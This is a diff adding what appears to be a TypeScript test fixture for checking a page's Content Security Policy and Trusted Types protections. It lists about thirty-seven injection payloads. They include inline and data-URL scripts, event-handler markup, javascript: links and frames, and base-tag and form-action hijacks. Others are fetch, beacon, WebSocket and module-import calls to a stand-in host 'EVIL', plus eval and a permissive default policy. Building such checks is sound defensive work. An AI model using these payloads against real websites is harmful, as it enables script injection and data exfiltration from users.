@@ -1,0 +1,107 @@
+/** A way to make a page run, load or send what is not its own. It has worked when `hit` is set or another site is asked. */
+export interface Attack {
+  readonly name: string;
+  /** Markup that somebody has smuggled into the page; `EVIL` stands for the address of another site. */
+  readonly markup?: string;
+  /** What somebody got the page's own script to do. */
+  readonly script?: (evil: string) => unknown;
+  /** Pressed once the page is open. */
+  readonly click?: string;
+}
+
+/** What each attack runs where it can. */
+const hit = `top.postMessage('hit','*')`;
+
+export const attacks: readonly Attack[] = [
+  { name: 'an inline script', markup: `<script>${hit}</script>` },
+  { name: 'an inline module', markup: `<script type="module">${hit}</script>` },
+  { name: 'a script of another site', markup: '<script src="EVIL/x.js"></script>' },
+  { name: 'a module of another site', markup: '<script type="module" src="EVIL/x.js"></script>' },
+  { name: 'a script in a data address', markup: `<script src="data:text/javascript,${hit}"></script>` },
+  { name: 'an error handler', markup: `<img src="/icon.svg?none=" onload="${hit}" onerror="${hit}" alt="">` },
+  { name: 'a handler in a drawing', markup: `<svg onload="${hit}"></svg>` },
+  {
+    name: 'a handler of an element that opens',
+    markup: `<details open ontoggle="${hit}"><summary>x</summary></details>`,
+  },
+  { name: 'a link to a script', markup: `<a id="press" href="javascript:${hit}">x</a>`, click: '#press' },
+  { name: 'a frame of a script', markup: `<iframe src="javascript:${hit}"></iframe>` },
+  { name: 'a frame with a document of its own', markup: `<iframe srcdoc="<script>${hit}</script>"></iframe>` },
+  { name: 'a frame in a data address', markup: `<iframe src="data:text/html,<script>${hit}</script>"></iframe>` },
+  { name: 'a frame of another site', markup: '<iframe src="EVIL/x"></iframe>' },
+  { name: 'another base for addresses', markup: '<base href="EVIL/"><a id="press" href="x">x</a>', click: '#press' },
+  {
+    name: 'a form to another site',
+    markup: '<form action="EVIL/x"><button id="press">x</button></form>',
+    click: '#press',
+  },
+  {
+    name: 'a button that sends a form to another site',
+    markup: '<form><button id="press" formaction="EVIL/x">x</button></form>',
+    click: '#press',
+  },
+  { name: 'an image of another site', markup: '<img src="EVIL/x" alt="">' },
+  { name: 'a style sheet of another site', markup: '<link rel="stylesheet" href="EVIL/x.css">' },
+  { name: 'a style that asks another site', markup: '<style>body{background:url(EVIL/x)}</style>' },
+  { name: 'a style attribute that asks another site', markup: '<p style="background:url(EVIL/x)">x</p>' },
+  { name: 'an object of another site', markup: '<object data="EVIL/x"></object>' },
+  { name: 'an embed of another site', markup: '<embed src="EVIL/x">' },
+  { name: 'a sound of another site', markup: '<audio preload="auto" src="EVIL/x"></audio>' },
+  { name: 'a preload of another site', markup: '<link rel="preload" as="image" href="EVIL/x">' },
+  { name: 'eval', script: () => eval(`${'top'}.postMessage('hit','*')`) },
+  { name: 'a function made of text', script: () => new Function(`top.postMessage('hit','*')`)() },
+  { name: 'a timer with text', script: () => Reflect.apply(setTimeout, window, [`top.postMessage('hit','*')`, 0]) },
+  { name: 'a request to another site', script: (evil) => fetch(`${evil}/x`, { mode: 'no-cors' }) },
+  { name: 'a beacon to another site', script: (evil) => navigator.sendBeacon(`${evil}/x`) },
+  { name: 'a socket to another site', script: (evil) => new WebSocket(`${evil.replace('http', 'ws')}/x`) },
+  { name: 'a module loaded from another site', script: (evil) => import(/* @vite-ignore */ `${evil}/x.js`) },
+  {
+    name: 'a worker made of text',
+    script: (evil) => new Worker(URL.createObjectURL(new Blob([`fetch('${evil}/x', {mode: 'no-cors'})`]))),
+  },
+  {
+    name: 'text as HTML (Trusted Types)',
+    script: () => {
+      document.body.innerHTML = `<p id="sunk">x</p>`;
+      if (document.querySelector('#sunk') !== null) postMessage('hit');
+    },
+  },
+  {
+    name: 'text as more HTML (Trusted Types)',
+    script: () => {
+      document.body.insertAdjacentHTML('beforeend', `<p id="sunk">x</p>`);
+      if (document.querySelector('#sunk') !== null) postMessage('hit');
+    },
+  },
+  {
+    name: 'text parsed as a document (Trusted Types)',
+    script: () => {
+      if (new DOMParser().parseFromString('<p>x</p>', 'text/html').body.children.length > 0) postMessage('hit');
+    },
+  },
+  {
+    name: 'text as a script’s address (Trusted Types)',
+    script: () => {
+      const script = document.createElement('script');
+      script.src = '/x.js';
+      if (script.hasAttribute('src')) postMessage('hit');
+    },
+  },
+  {
+    name: 'a default policy that lets all through (Trusted Types)',
+    script: () => {
+      const types: unknown = Reflect.get(window, 'trustedTypes');
+      if (typeof types !== 'object' || types === null) return;
+      const create: unknown = Reflect.get(types, 'createPolicy');
+      if (typeof create !== 'function') return;
+      Reflect.apply(create, types, ['default', { createHTML: (text: string) => text }]);
+      postMessage('hit');
+    },
+  },
+];
+
+/** An attack's script as the page's own code: a timer runs it, since what a test evaluates itself is above the policy. */
+export function asPageCode(script: (evil: string) => unknown, evil: string): string {
+  const run = `Promise.resolve((${script.toString()})(${JSON.stringify(evil)})).catch(() => {})`;
+  return `setTimeout(() => { try { ${run} } catch {} })`;
+}
